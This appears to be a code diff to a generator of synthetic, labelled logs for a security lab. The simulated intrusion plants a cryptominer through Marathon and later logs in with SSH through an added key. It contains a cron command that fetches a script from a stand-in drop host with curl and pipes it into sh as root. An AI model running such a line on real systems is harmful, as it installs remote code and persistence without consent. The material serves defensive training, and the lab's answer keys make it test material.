@@ -21,8 +21,12 @@ import { agentProc, launchTask } from "../gen/tasks";
 /** the attacker's use of Marathon: API requests, the deployments and tasks they started (on
  *  Marathon, the masters and the agents) */
 export const INTRUSION_LABEL = "intrusion";
-/** what the tasks left on the agents: the cron job's runs and the SSH login it made possible */
+/** what the tasks left on the agents: each run of the cron job they planted (its `CMD` line) */
 export const PERSISTENCE_LABEL = "persistence";
+/** the session lines CRON writes around each of those runs (pam_unix opened/closed for root) */
+export const PERSISTENCE_SESSION_LABEL = "persistence-session";
+/** the attacker's SSH login the next day, through the key the tasks added */
+export const LOGIN_LABEL = "attacker-login";
 
 /** what the lab asks for; the lab file's answer keys are checked against these by a test */
 export interface MinerFacts {
@@ -206,7 +210,7 @@ export function emitMarathonMiner(c: Ctx, r: Rng): MinerFacts {
   marathon(c.s, mh, (last += r.int(200, 900)), AKKA(r), "marathon.startDone", { count: INSTANCES - 1, app: APP });
   marathon(c.s, mh, (last += r.int(200, 900)), AKKA(r), "marathon.planRemoved", { plan: plan2, targets: APP });
 
-  c.s.labelling = PERSISTENCE_LABEL;
+  c.s.labelling = PERSISTENCE_SESSION_LABEL;
   // each task writes root's crontab on its agent: every 30 minutes (agent's local clock), re-fetch
   const cmd = `pgrep -f kube-metrics >/dev/null || curl -fsSL http://${DROP}/km.sh | sh`;
   for (const a of chosen) {
@@ -214,10 +218,15 @@ export function emitMarathonMiner(c: Ctx, r: Rng): MinerFacts {
     for (let d = 0; from + d * DAY < sc.E; d++)
       for (let k = 0; k < 48; k++) {
         const at = atLocal(a, from + d * DAY, k * 30 * MIN) + r.int(200, 900) * 1000;
-        if (at > t + 5 * MIN) cronJob(c, a, at, cmd);
+        if (at <= t + 5 * MIN) continue;
+        const first = c.s.size;
+        cronJob(c, a, at, cmd);
+        // the run itself is the persistence; the session lines around it are CRON's bookkeeping
+        for (let i = first; i < c.s.size; i++) if (c.s.tpl[i] === "cron.cmd") c.s.labels.set(i, PERSISTENCE_LABEL);
       }
   }
 
+  c.s.labelling = LOGIN_LABEL;
   // Wednesday afternoon: back in through the key the task added to /root/.ssh/authorized_keys
   const sshHost = chosen[r.int(0, INSTANCES - 1)];
   sshSession(c, r, sc.W + 2 * DAY + 13 * HOUR + r.int(0, 3600) * SEC, sshHost, "root", ATTACKER, r.int(4, 11) * MIN, "RSA");
